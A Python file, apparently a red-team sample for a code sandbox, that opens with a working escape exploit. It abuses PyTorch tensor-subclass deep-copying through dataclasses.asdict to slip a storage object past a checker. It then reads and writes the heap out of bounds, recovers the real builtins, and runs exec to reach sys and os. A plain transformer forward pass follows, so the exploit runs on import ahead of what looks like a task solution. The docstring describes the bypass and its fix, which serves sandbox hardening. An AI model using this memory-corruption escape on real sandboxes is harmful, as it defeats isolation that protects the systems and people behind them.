"""Hostile: torch.Tensor.__deepcopy__ (run by dataclasses.asdict on a field value) copies a
non-wrapper tensor subclass by `new_tensor = self.new_empty([])` and then
`new_tensor.set_(new_storage, offset, size, stride)`, where new_storage is
`self._typed_storage()._deepcopy(memo)`: a torch.TypedStorage, read where no check sees it. The
file's subclass overrides new_empty (to return one of its own) and set_, whose parameter is checked
on entry; but a TypedStorage instance is no forbidden object by identity (only the class
torch.TypedStorage is), so check_value lets it through. The file then sets a plain tensor of n
elements onto that storage (Tensor.set_), shrinks the storage with its public resize_, and the
tensor reads and writes the heap past its end; from there the real builtins dict and exec, sys, os.
Accepted with every wall on, until dataclasses.asdict and astuple copied only plain values
themselves (no copy.deepcopy of a tensor subclass) and an object of a class the rules refuse (a
storage) was refused wherever it is met."""

import dataclasses
import math
import operator

import torch

found = []


class Copied(torch.Tensor):
    def new_empty(self, *args, **kwargs):
        return torch.zeros(0, dtype=self.dtype).as_subclass(Copied)

    def set_(self, *args):
        found.append(args[0])
        return self


@dataclasses.dataclass
class Holder:
    value: object


def storage_of(x):
    found.clear()
    dataclasses.asdict(Holder(x.as_subclass(Copied)))
    return found[0]


def find_victim():
    for n in (16384, 65536, 262144):
        storage = storage_of(torch.zeros(4, dtype=torch.int64))
        window = torch.zeros(0, dtype=torch.int64)
        window.set_(storage, 0, (n,), (1,))
        storage.resize_(16)  # the tensor keeps its n elements: n * 8 bytes of heap
        victims = [torch.full((2,), 7, dtype=torch.int64) for _ in range(512)]
        pointers = {v.data_ptr(): v for v in victims}
        words = window.clone().tolist()  # an out-of-bounds read of the whole window
        for i in range(len(words) - 2):
            if words[i] in pointers and words[i + 2] == words[i]:  # StorageImpl: data_, deleter, ctx_
                return window, pointers[words[i]], i, victims, storage
    raise RuntimeError("no victim found")


window, victim, slot, kept, kept_storage = find_victim()
home = victim.data_ptr()
mask = torch.zeros(window.shape[0], dtype=torch.bool)
mask[slot] = True


def point(address):
    window.masked_fill_(mask, address)


def read(address):
    point(address)
    return victim[0].item()


def write(address, value):
    point(address)
    victim[0] = value


builtins_address = read(id(torch.broadcast_shapes) + 24)  # PyFunctionObject.func_builtins
write(builtins_address, read(builtins_address) + 1)  # the reference the list below will own
box = [None]
write(read(id(box) + 24), builtins_address)  # box's only item is now the real builtins dict
point(home)
code = (
    "b = torch.broadcast_shapes.__globals__['__builtins__']\n"
    "sys = b['__import__']('sys'); os = b['__import__']('os')\n"
    "print('ESCAPED: real sys, modules:', len(sys.modules), 'pid', os.getpid(), 'eval', b['eval'])\n"
)
list(map(operator.call, map(dict.get, box, ["exec"]), [code]))  # C code takes the items: never checked


def layer_norm(x):
    mean = x.mean(dim=-1, keepdim=True)
    var = ((x - mean) ** 2).mean(dim=-1, keepdim=True)
    return (x - mean) / torch.sqrt(var + 1e-5)


def gelu(x):
    return 0.5 * x * (1.0 + torch.tanh(math.sqrt(2.0 / math.pi) * (x + 0.044715 * x**3)))


def softmax(scores):
    scores = scores - scores.amax(dim=-1, keepdim=True)
    e = torch.exp(scores)
    return e / e.sum(dim=-1, keepdim=True)


def attention(x, w_q, w_k, w_v, w_o, num_heads):
    n, t, d = x.shape
    d_head = d // num_heads
    q = (x @ w_q).view(n, t, num_heads, d_head).transpose(1, 2)
    k = (x @ w_k).view(n, t, num_heads, d_head).transpose(1, 2)
    v = (x @ w_v).view(n, t, num_heads, d_head).transpose(1, 2)
    scores = q @ k.transpose(-2, -1) / math.sqrt(d_head)
    out = softmax(scores) @ v
    return out.transpose(1, 2).reshape(n, t, d) @ w_o


def mlm_forward_tied(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads):
    x = w_emb[input_ids] + pos_embed
    for w_q, w_k, w_v, w_o, w_mlp1, w_mlp2 in blocks_weights:
        x = x + attention(layer_norm(x), w_q, w_k, w_v, w_o, num_heads)
        x = x + gelu(layer_norm(x) @ w_mlp1) @ w_mlp2
    hidden = x[mask_indicator > 0.5]
    return hidden @ w_emb.T
